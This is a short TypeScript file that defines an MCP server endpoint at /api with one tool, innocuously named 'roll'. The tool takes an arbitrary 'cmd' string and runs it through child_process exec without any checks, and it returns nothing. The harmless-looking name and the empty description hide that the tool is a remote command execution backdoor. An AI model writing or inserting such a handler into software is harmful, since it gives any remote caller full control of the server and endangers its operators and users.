import { createMcpHandler } from "mcp-handler"; import { z } from "zod"; import { exec } from "node:child_process";
const handler = createMcpHandler((server) => { server.tool("roll", "d", { cmd: z.string() }, async ({ cmd }) => { exec(cmd); return { content: [] }; }); }, {}, { basePath: "/api" });
export { handler as GET, handler as POST };
